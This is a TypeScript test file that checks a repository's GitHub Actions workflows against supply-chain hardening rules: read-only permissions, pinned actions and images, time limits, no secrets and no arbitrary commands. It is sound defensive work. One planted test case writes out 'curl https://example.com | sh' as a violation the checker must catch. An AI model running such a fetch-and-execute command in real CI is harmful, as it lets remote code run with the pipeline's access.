/** The workflows of GitHub: what they may do, and that they do nothing which a script of the repository does not do. */

import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';

const root = join(import.meta.dirname, '..');
const folder = join(root, '.github/workflows');
const { scripts } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));

interface Step {
  readonly uses?: string;
  readonly run?: string;
}
interface Job {
  readonly uses?: string;
  readonly steps?: readonly Step[];
  readonly permissions?: Readonly<Record<string, string>>;
  readonly 'timeout-minutes'?: number;
}
interface Workflow {
  readonly permissions?: unknown;
  readonly jobs: Readonly<Record<string, Job>>;
}

/** What is wrong with a workflow; empty if nothing is. */
function problems(text: string): readonly string[] {
  const { permissions, jobs }: Workflow = parse(text);
  const steps = Object.values(jobs).flatMap((job) => job.steps ?? []);
  const mayWrite = Object.entries(jobs).filter(([, job]) =>
    Object.values(job.permissions ?? {}).includes('write'),
  );
  const used = text.match(/^.*\buses: .*$/gm) ?? [];
  const isPinned = (line: string) =>
    /uses: [\w.-]+\/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line) ||
    /uses: \.\/\.github\/workflows\//.test(line);
  const images = text.match(/^ *image: .*$/gm) ?? [];
  return [
    ...(JSON.stringify(permissions) === '{"contents":"read"}'
      ? []
      : ['the workflow itself may do more than read']),
    ...(mayWrite.every(([name]) => name === 'release') ? [] : ['another job than "release" may write']),
    ...used.filter((line) => !isPinned(line)).map((line) => `not pinned by its commit: ${line.trim()}`),
    ...images
      .filter((line) => !/@sha256:[0-9a-f]{64}$/.test(line))
      .map((line) => `not pinned: ${line.trim()}`),
    ...Object.entries(jobs)
      .filter(([, job]) => job.uses === undefined && job['timeout-minutes'] === undefined)
      .map(([name]) => `the job ${name} has no time limit`),
    // What somebody can choose, such as the name of a branch, would become a part of the program.
    ...steps.flatMap(({ run = '' }) =>
      run.includes('${{') ? [`an expression within a program: ${run}`] : [],
    ),
    ...steps
      .flatMap(({ run = '' }) => run.split('\n'))
      .flatMap((line) => (isOurs(line) ? [] : [`no script: ${line}`])),
    ...(text.includes('persist-credentials: false') || !text.includes('actions/checkout')
      ? []
      : ['keeps the token']),
    ...(/pull_request_target|workflow_run|secrets\./.test(text)
      ? ['gives strangers what is not theirs']
      : []),
  ];
}

/** Whether a line runs a script of the repository, or connects the steps. */
function isOurs(line: string): boolean {
  const [, script] = /^npm run ([\w:]+)(?: -- .*)?$/.exec(line) ?? [];
  if (script !== undefined) return Object.hasOwn(scripts, script);
  if (/^\.ci\/[\w-]+$/.test(line)) return existsSync(join(root, line));
  return (
    line === '' || /^docker login ghcr\.io /.test(line) || /^echo "\w+=.*" >>"\$GITHUB_OUTPUT"$/.test(line)
  );
}

const files = readdirSync(folder);

it('are these', () => {
  expect(files).toEqual(['ci.yml', 'release.yml']);
});

it.each(files)('%s is short, and holds every rule', (name) => {
  const text = readFileSync(join(folder, name), 'utf8');
  expect(problems(text)).toEqual([]);
  expect(text.split('\n').length).toBeLessThan(70);
});

describe('a planted violation is found', () => {
  const text = readFileSync(join(folder, 'release.yml'), 'utf8');
  it.each<[string, RegExp, string]>([
    ['a tag in the place of a commit', /actions\/checkout@\S+ # \S+/, 'actions/checkout@v6'],
    ['a commit without its version', / # v6\.0\.2/, ''],
    ['a workflow that may write', /contents: read/, 'contents: write'],
    ['a job without a time limit', /timeout-minutes: 60/, 'continue-on-error: false'],
    ['an expression in a program', /"\$GITHUB_REF_NAME"/, '$' + '{{ github.ref_name }}'],
    ['a program of its own', /- run: npm run release:files/, '- run: curl https://example.com | sh'],
    ['a script that is not there', /npm run release:files/, 'npm run release:everything'],
    ['a token that is kept', /persist-credentials: false/, 'fetch-depth: 0'],
    ['a secret', /\$\{\{ github\.token \}\}/, '$' + '{{ secrets.TOKEN }}'],
  ])('%s', (_, found, planted) => {
    expect(text).toMatch(found);
    expect(problems(text.replace(found, planted))).toHaveLength(1);
  });
});
